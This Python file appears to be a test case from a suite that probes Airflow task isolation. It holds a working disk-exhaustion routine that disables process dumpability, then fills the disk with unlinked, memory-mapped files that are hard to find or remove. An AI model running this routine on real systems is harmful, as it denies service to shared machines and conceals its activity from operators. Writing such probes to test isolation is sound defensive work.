"""Fills the disk with files that nobody has open: removed, and a page of each mapped; and lets nobody look.

---
ends = ["error"]
says = "of files"
"""

import ctypes
import os

from airflow_attack import attack, broken, libc, tried, wait

MB = 1 << 20
DUMPABLE = 4


def work() -> None:
    tried("to fill what nobody has open")
    libc.prctl(DUMPABLE, 0, 0, 0, 0)
    libc.mmap.restype = ctypes.c_void_p
    written = 0
    try:
        for number in range(60):
            file = os.open(f"mapped-{number}", os.O_CREAT | os.O_RDWR)
            os.unlink(f"mapped-{number}")
            for _ in range(8):
                written += os.write(file, b"x" * MB)
            libc.mmap(None, ctypes.c_size_t(4096), 1, 1, file, ctypes.c_long(0))
            os.close(file)
    except OSError as error:
        tried(f"after {written // MB} MB: {error}")
    wait(3)
    broken(f"{written // MB} MB that nobody has open")


dag = attack(work)
